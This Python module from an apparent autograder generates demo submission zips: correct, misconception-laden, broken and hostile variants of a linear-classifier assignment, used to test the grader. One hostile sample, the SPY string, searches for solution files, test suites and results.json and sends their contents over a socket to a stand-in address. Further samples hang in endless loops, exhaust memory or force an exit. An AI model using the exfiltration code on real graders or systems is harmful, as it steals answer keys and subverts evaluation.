"""Makes the sample batch that `make demo` grades: good, wrong, broken and hostile submissions.

All but the broken ones are the reference solution with a named variant in it, so that a sample always
follows the assignment. Run as `python -m autograder.authoring.samples ASSIGNMENT FOLDER`.
"""

from __future__ import annotations

import shutil
import sys
import zipfile
from collections.abc import Mapping
from pathlib import Path

from ..assignment import Assignment, apply, load_misconceptions, load_styles
from ..assignment import settings as assignments

WRONG = (
    "svm_loss_without_the_mean",
    "svm_loss_with_the_true_class",
    "svm_gradient_without_the_mean",
    "svm_gradient_minus_one",
    "softmax_without_the_maximum",
    "softmax_of_columns",
    "softmax_loss_log_of_zero",
    "softmax_gradient_minus_one_in_whole_columns",
    "numerical_gradient_one_sided",
    "kl_divergence_swapped",
    "l2_gradient_without_the_two",
    "elastic_net_with_beta_on_the_wrong_term",
    "sgd_step_in_place",
    "sample_batch_images_and_labels_apart",
)
"""Misconceptions of the sample batch; one submission each."""

STYLES = {"full marks, one-hot matrices": "one_hot", "full marks, masks": "masks"}

SPY = """

def svm_loss(W, X, y, delta=1.0):
    import glob
    import socket

    found = []
    for place in ("..", "/autograder", "/home", "/root", "/env/site-packages"):
        for name in ("solutions/**/loss.py", "suites/**/*.py", "results.json"):
            found += glob.glob(f"{place}/{name}", recursive=True)
    secrets = [open(path).read() for path in found]
    socket.create_connection(("192.0.2.1", 80), timeout=1).sendall(str(secrets).encode())
    return 2.9
"""

BROKEN = {
    "syntax error": ("loss", "\n\ndef svm_loss(W, X, y:\n    return 0\n"),
    "import that fails": ("gradient", "\n\nimport my_own_package_on_my_laptop\n"),
    "endless loop": ("loss", "\n\ndef softmax_loss_naive(W, X, y):\n    while True:\n        pass\n"),
    "exits": ("gradient", "\n\ndef relative_error(a, b):\n    import os\n\n    os._exit(0)\n"),
    "allocates without end": (
        "regularization",
        "\n\ndef l1(W):\n    hoard = []\n    while True:\n        hoard.append(bytes(1 << 28))\n",
    ),
    "reads the solutions and the network": ("loss", SPY),
}
"""What is added to the end of a module, by the submission's name."""


def write(assignment: Assignment, folder: Path) -> list[str]:
    """Write the sample submissions as zips; returns their names.

    Args:
        assignment: the linear classifier, of whose functions the samples are made.
        folder: emptied first.
    """
    reference = {
        name: (assignment.solutions / f"{name}.py").read_text(encoding="utf-8") for name in assignment.modules
    }
    misconceptions = {variant.name: variant for variant in load_misconceptions(assignment.solutions)}
    styles = load_styles(assignment.solutions)
    stubs = assignment.rooms.handout
    notebook = (stubs / f"{assignment.name}.ipynb").read_bytes()
    batch: dict[str, Mapping[str, str]] = {"full marks": apply((), reference)}
    for name, style in STYLES.items():
        batch[name] = apply([variant for variant in styles if variant.name == style], reference)
    batch["unfinished stubs"] = {
        name: (stubs / f"{name}.py").read_text(encoding="utf-8") for name in assignment.modules
    }
    for name in WRONG:
        batch[name.replace("_", " ")] = apply([misconceptions[name]], reference)
    for name, (module, addition) in BROKEN.items():
        broken = apply((), reference)
        batch[name] = {**broken, module: broken[module] + addition}
    shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir(parents=True)
    for name, modules in batch.items():
        with zipfile.ZipFile(folder / f"{name}.zip", "w", zipfile.ZIP_DEFLATED) as archive:
            for module, source in modules.items():
                archive.writestr(f"{module}.py", source)
            archive.writestr(f"{assignment.name}.ipynb", notebook)
    whole = (folder / "full marks.zip").read_bytes()
    (folder / "truncated zip.zip").write_bytes(whole[: len(whole) // 2])
    return [*batch, "truncated zip"]


def main() -> None:
    """Entry point of `python -m autograder.authoring.samples`."""
    name, folder = sys.argv[1], Path(sys.argv[2])
    written = write(assignments.load(name), folder)
    print(f"{len(written)} sample submissions are in {folder}.")


if __name__ == "__main__":
    main()
